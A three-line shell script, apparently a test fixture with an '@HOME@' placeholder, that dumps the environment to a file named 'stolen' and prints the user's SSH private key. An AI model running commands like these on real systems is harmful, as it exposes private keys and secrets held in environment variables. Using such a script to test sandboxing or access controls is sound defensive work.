#!/bin/sh
env > '@HOME@/stolen'
cat '@HOME@/.ssh/id_ed25519'
